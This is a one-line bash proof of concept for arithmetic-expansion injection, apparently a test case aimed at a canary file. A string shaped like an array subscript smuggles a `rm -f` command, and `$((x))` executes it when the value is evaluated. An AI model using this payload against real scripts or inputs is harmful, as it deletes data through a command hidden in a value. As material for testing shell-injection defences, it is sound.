x='a[$(rm -f /srv/rt/s/d1/home/victim/keep-D03)]'; echo $((x))
